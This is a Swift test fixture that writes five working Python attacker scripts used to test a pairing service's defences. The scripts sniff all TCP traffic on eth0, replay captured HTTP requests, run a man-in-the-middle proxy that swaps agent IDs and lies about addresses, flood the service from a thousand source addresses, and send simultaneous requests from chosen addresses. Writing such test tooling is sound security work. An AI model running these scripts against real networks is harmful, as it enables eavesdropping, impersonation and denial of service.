import Foundation

/// What somebody on the network runs, in Python: a file each, in a folder that is gone after the test.
final class AttackerScripts: Sendable {
  private let folder = TemporaryHome()

  init() throws {
    for (name, text) in [
      ("record", Self.record), ("replay", Self.replay), ("pretend", Self.pretend), ("flood", Self.flood),
      ("crowd", Self.crowd),
    ] {
      try Data(text.utf8).write(to: URL(filePath: file(name)))
    }
  }

  /// The command that runs one.
  func callAsFunction(_ name: String, _ arguments: String...) -> String {
    (["/usr/bin/env", "python3", file(name)] + arguments).joined(separator: " ")
  }

  /// A file for what is found out.
  func path(_ name: String) -> String { folder.path + "/" + name }

  private func file(_ name: String) -> String { path(name + ".py") }

  /// `FILE`: writes down what every TCP connection on the network carries.
  private static let record = """
    import json, socket, struct, sys
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    tap.bind(("eth0", 0))
    everything = struct.pack("iHH8s", socket.if_nametoindex("eth0"), 1, 0, b"")
    tap.setsockopt(263, 1, everything)
    tap.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 24)
    with open(sys.argv[1], "w") as log:
        print("ready", flush=True)
        while True:
            frame = tap.recv(1 << 17)
            packet = frame[14:]
            if len(packet) < 40 or packet[0] >> 4 != 4 or packet[9] != 6:
                continue
            packet = packet[:struct.unpack("!H", packet[2:4])[0] or len(packet)]
            segment = packet[(packet[0] & 15) * 4:]
            source, target, sequence = struct.unpack("!HHI", segment[:8])
            data = segment[(segment[12] >> 4) * 4:]
            if data:
                flow = f"{socket.inet_ntoa(packet[12:16])}:{source}>{socket.inet_ntoa(packet[16:20])}:{target}"
                log.write(json.dumps({"flow": flow, "seq": sequence, "data": data.hex()}) + "\\n")
                log.flush()
    """

  /// `FILE HOST PORT`: sends every request that was recorded to a host once more; prints what each is answered.
  private static let replay = """
    import http.client, json, sys
    flows, answers = {}, []
    for line in open(sys.argv[1]):
        part = json.loads(line)
        if part["flow"].endswith(f":{sys.argv[3]}"):
            flows.setdefault(part["flow"], []).append((part["seq"], bytes.fromhex(part["data"])))
    for parts in flows.values():
        first, stream = parts[0][0], b""
        for sequence, data in sorted(set(((s - first) % 2**32, d) for s, d in parts)):
            stream += data[max(0, len(stream) - sequence):]
        while stream:
            head, _, rest = stream.partition(b"\\r\\n\\r\\n")
            lines = head.decode().split("\\r\\n")
            method, path, _ = lines[0].split(" ")
            fields = dict(line.split(": ", 1) for line in lines[1:])
            length = int({k.lower(): v for k, v in fields.items()}.get("content-length", 0))
            body, stream = rest[:length], rest[length:]
            to = http.client.HTTPConnection(sys.argv[2], int(sys.argv[3]), timeout=60)
            to.request(method, path, body or None, fields)
            answer = to.getresponse()
            answers.append({"path": path, "status": answer.status, "text": answer.read().decode()})
            to.close()
    print(json.dumps(answers))
    """

  /// `PORT ID ADDRESS LIES`: stands before a host of its own, asks it for its own agent of that id whomever it is asked
  /// for, and, where it lies, has the answer name another address.
  private static let pretend = """
    import http.server, json, sys, urllib.error, urllib.request
    port, own, address, lies = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4] == "lies"
    class Door(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.carry(None)
        def do_POST(self):
            asked = json.loads(self.rfile.read(int(self.headers["content-length"])))
            if self.path == "/pair":
                asked["agentId"] = own
            self.carry(json.dumps(asked).encode())
        def carry(self, body):
            try:
                answer = urllib.request.urlopen(
                    urllib.request.Request(f"http://127.0.0.1:{port}{self.path}", body), timeout=120)
            except urllib.error.HTTPError as error:
                answer = error
            said = answer.read()
            if lies and self.path == "/pair" and answer.status == 200:
                told = json.loads(said)
                told["agentAddress"] = address
                said = json.dumps(told).encode()
            self.send_response(answer.status)
            self.send_header("content-length", str(len(said)))
            self.end_headers()
            self.wfile.write(said)
    print("ready", flush=True)
    http.server.ThreadingHTTPServer(("0.0.0.0", 4711), Door).serve_forever()
    """

  /// `HOST PORT COUNT STOP`: asks for challenges and sends pairing requests from a thousand addresses, so many and then
  /// until a file is there; prints how often each status came.
  private static let flood = """
    import asyncio, collections, json, os, sys
    host, port, count, stop = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
    body = json.dumps({"connectorAddress": "0x9858EfFD232B4033E47d90003D41EC34EcaEda94", "agentId": "x",
        "nonce": "ab" * 32, "signature": "0x" + "11" * 64 + "1b", "encPub": "A" * 43})
    challenge = f"GET /pair/challenge HTTP/1.1\\r\\nHost: {host}:{port}\\r\\nConnection: close\\r\\n\\r\\n"
    pair = f"POST /pair HTTP/1.1\\r\\nHost: {host}:{port}\\r\\nConnection: close\\r\\nContent-Length: {len(body)}\\r\\n\\r\\n{body}"
    statuses, numbers = collections.Counter(), iter(range(200_000))
    async def ask(number):
        place = number % 1000
        reader, writer = await asyncio.open_connection(
            host, port, local_addr=(f"10.7.{place // 250}.{place % 250 + 1}", 0))
        writer.write((pair if number % 2 else challenge).encode())
        line = await asyncio.wait_for(reader.readline(), 60)
        statuses[line.split()[1].decode() if line else "closed"] += 1
        writer.close()
    async def worker():
        for number in numbers:
            if number >= count and os.path.exists(stop):
                return
            try:
                await ask(number)
            except (OSError, asyncio.TimeoutError):
                statuses["failed"] += 1
    async def main():
        print("ready", flush=True)
        await asyncio.gather(*(worker() for _ in range(100)))
        print(json.dumps(statuses), flush=True)
    asyncio.run(main())
    """

  /// `HOST PORT FILE`: sends the request of each line at once, each from an address of its own; prints the answers.
  private static let crowd = """
    import asyncio, json, sys
    host, port = sys.argv[1], int(sys.argv[2])
    async def ask(line):
        asked = json.loads(line)
        reader, writer = await asyncio.open_connection(host, port, local_addr=(asked["from"], 0))
        body, name = asked.get("body", ""), f"[{host}]" if ":" in host else host
        head = f"{asked['method']} {asked['path']} HTTP/1.1\\r\\nHost: {name}:{port}\\r\\nConnection: close\\r\\n"
        writer.write((head + f"Content-Length: {len(body)}\\r\\n\\r\\n" + body).encode())
        answer = (await asyncio.wait_for(reader.read(), 300)).decode()
        writer.close()
        return {"status": int(answer.split(" ")[1]), "text": answer.partition("\\r\\n\\r\\n")[2]}
    async def main():
        print(json.dumps(await asyncio.gather(*(ask(line) for line in open(sys.argv[3])))))
    asyncio.run(main())
    """
}
